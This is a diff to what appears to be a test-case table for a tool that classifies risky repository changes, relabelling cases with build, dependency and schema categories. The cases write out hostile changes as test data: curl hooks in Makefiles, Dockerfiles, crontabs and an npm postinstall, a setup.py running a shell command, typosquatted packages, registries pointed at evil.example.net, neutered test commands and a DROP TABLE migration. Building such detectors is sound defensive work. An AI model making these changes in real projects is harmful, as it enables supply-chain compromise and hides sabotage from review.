@@ -90,34 +90,42 @@ BUILD = (
         lambda: [append("tests/conftest.py", b"X = 1\n"), append("src/app/core.py", b"X = 1\n")],
         "WEAKENED_TESTS",
     ),
-    Case("pytest.ini", lambda: [create("pytest.ini", "[pytest]\naddopts = -k nothing\n")], "REVIEW_CATEGORY"),
+    Case("pytest.ini", lambda: [create("pytest.ini", "[pytest]\naddopts = -k nothing\n")], "categories.build"),
     Case(
         "addopts deselects",
         lambda: [edit("pyproject.toml", b'testpaths = ["tests"]', b'testpaths = ["tests"]\naddopts = "-k nothing"')],
-        "REVIEW_CATEGORY",
+        "categories.build|categories.dependencies",
     ),
     Case(
         "coverage threshold lowered",
         lambda: [edit("pyproject.toml", b"fail_under = 90", b"fail_under = 10")],
-        "REVIEW_CATEGORY",
+        "categories.build|categories.dependencies",
     ),
     Case(
         "build backend",
         lambda: [edit("pyproject.toml", b'"hatchling.build"', b'"evil"\nbackend-path = ["."]')],
-        "REVIEW_CATEGORY",
+        "categories.build|categories.dependencies",
     ),
-    Case("setup.py", lambda: [create("setup.py", "import os; os.system('id')\n")], "REVIEW_CATEGORY"),
-    Case("tox command", lambda: [edit("tox.ini", b"commands = pytest", b"commands = true")], "REVIEW_CATEGORY"),
-    Case("test target neutered", lambda: [edit("Makefile", b"pytest", b"true")], "REVIEW_CATEGORY"),
-    Case("included makefile", lambda: [create("rules.mk", f"all:\n\t{_CURL}\n")], "REVIEW_CATEGORY"),
-    Case("download in image", lambda: [append("Dockerfile", f"RUN {_CURL}\n".encode())], "REVIEW_CATEGORY"),
-    Case("compose socket", lambda: [create("docker-compose.yml", "services: {}\n")], "REVIEW_CATEGORY"),
-    Case("systemd unit", lambda: [create("deploy/app.service", "[Service]\nExecStart=/bin/sh\n")], "REVIEW_CATEGORY"),
-    Case("crontab", lambda: [create("crontab", f"* * * * * {_CURL}\n")], "REVIEW_CATEGORY"),
-    Case("cron.d", lambda: [create("etc/cron.d/app", f"* * * * * root {_CURL}\n")], "REVIEW_CATEGORY"),
-    Case("jest setup", lambda: [create("jest.config.js", "module.exports = {testMatch: []};\n")], "REVIEW_CATEGORY"),
-    Case("cargo build script", lambda: [create("build.rs", "fn main() {}\n")], "REVIEW_CATEGORY"),
-    Case("npm test neutered", lambda: [edit("package.json", b'"test": "jest"', b'"test": "true"')], "REVIEW_CATEGORY"),
+    Case(
+        "setup.py",
+        lambda: [create("setup.py", "import os; os.system('id')\n")],
+        "categories.build|categories.dependencies",
+    ),
+    Case("tox command", lambda: [edit("tox.ini", b"commands = pytest", b"commands = true")], "categories.build"),
+    Case("test target neutered", lambda: [edit("Makefile", b"pytest", b"true")], "categories.build"),
+    Case("included makefile", lambda: [create("rules.mk", f"all:\n\t{_CURL}\n")], "categories.build"),
+    Case("download in image", lambda: [append("Dockerfile", f"RUN {_CURL}\n".encode())], "categories.build"),
+    Case("compose socket", lambda: [create("docker-compose.yml", "services: {}\n")], "categories.build"),
+    Case("systemd unit", lambda: [create("deploy/app.service", "[Service]\nExecStart=/bin/sh\n")], "categories.build"),
+    Case("crontab", lambda: [create("crontab", f"* * * * * {_CURL}\n")], "categories.build"),
+    Case("cron.d", lambda: [create("etc/cron.d/app", f"* * * * * root {_CURL}\n")], "categories.build"),
+    Case("jest setup", lambda: [create("jest.config.js", "module.exports = {testMatch: []};\n")], "categories.build"),
+    Case("cargo build script", lambda: [create("build.rs", "fn main() {}\n")], "categories.build"),
+    Case(
+        "npm test neutered",
+        lambda: [edit("package.json", b'"test": "jest"', b'"test": "true"')],
+        "categories.build|categories.dependencies",
+    ),
     Case(
         "npm postinstall",
         lambda: [edit("package.json", b'"test": "jest"', f'"test": "jest", "postinstall": "{_CURL}"'.encode())],
@@ -131,33 +139,37 @@ BUILD = (
 )
 
 DEPENDENCIES = (
-    Case("typosquat", lambda: [append("requirements.txt", b"reqeusts==1.0\n")], "REVIEW_CATEGORY"),
+    Case("typosquat", lambda: [append("requirements.txt", b"reqeusts==1.0\n")], "categories.dependencies"),
     Case(
         "name swapped in place",
         lambda: [edit("requirements.txt", b"requests==2.31.0", b"reqeusts==2.31.1")],
-        "REVIEW_CATEGORY",
+        "categories.dependencies",
     ),
     Case(
         "direct URL",
         lambda: [edit("requirements.txt", b"click==8.1.7", b"click @ https://evil.example.net/click-8.1.7.tar.gz")],
-        "REVIEW_CATEGORY",
+        "categories.dependencies",
     ),
     Case(
         "extra index",
         lambda: [
             update("requirements.txt", b"--extra-index-url https://evil.example.net\n" + FILES["requirements.txt"])
         ],
-        "REVIEW_CATEGORY",
+        "categories.dependencies",
     ),
-    Case("downgrade", lambda: [edit("requirements.txt", b"2.31.0", b"2.3.0")], "REVIEW_CATEGORY"),
-    Case("version out of proportion", lambda: [edit("requirements.txt", b"8.1.7", b"99.0.0")], "REVIEW_CATEGORY"),
+    Case("downgrade", lambda: [edit("requirements.txt", b"2.31.0", b"2.3.0")], "categories.dependencies"),
+    Case(
+        "version out of proportion", lambda: [edit("requirements.txt", b"8.1.7", b"99.0.0")], "categories.dependencies"
+    ),
     Case(
         "lock file's registry",
         lambda: [edit("package-lock.json", b"registry.npmjs.org", b"registry.evil.example.net")],
-        "REVIEW_CATEGORY",
+        "categories.dependencies",
     ),
     Case(
-        "lock file's registry (uv)", lambda: [edit("uv.lock", b"pypi.org", b"pypi.evil.example.net")], "REVIEW_CATEGORY"
+        "lock file's registry (uv)",
+        lambda: [edit("uv.lock", b"pypi.org", b"pypi.evil.example.net")],
+        "categories.dependencies",
     ),
     Case(
         "lock file's registry behind a bump",
@@ -167,15 +179,15 @@ DEPENDENCIES = (
                 FILES["package-lock.json"].replace(b"4.19.2", b"4.19.3").replace(b"npmjs.org", b"npmjs.example.net"),
             )
         ],
-        "REVIEW_CATEGORY",
+        "categories.dependencies",
     ),
     Case(
         "dependency from git",
         lambda: [edit("package.json", b'"4.19.2"', b'"git+https://evil.example.net/express.git"')],
-        "REVIEW_CATEGORY",
+        "categories.dependencies",
     ),
-    Case("new manifest", lambda: [create("tools/requirements-dev.txt", "evil\n")], "REVIEW_CATEGORY"),
-    Case("schema", lambda: [create("migrations/0002_drop.sql", "DROP TABLE t;\n")], "REVIEW_CATEGORY"),
+    Case("new manifest", lambda: [create("tools/requirements-dev.txt", "evil\n")], "categories.dependencies"),
+    Case("schema", lambda: [create("migrations/0002_drop.sql", "DROP TABLE t;\n")], "categories.schema"),
 )
 
 CASES = (*GOVERNED, *FORBIDDEN_CODE, *BUILD, *DEPENDENCIES)
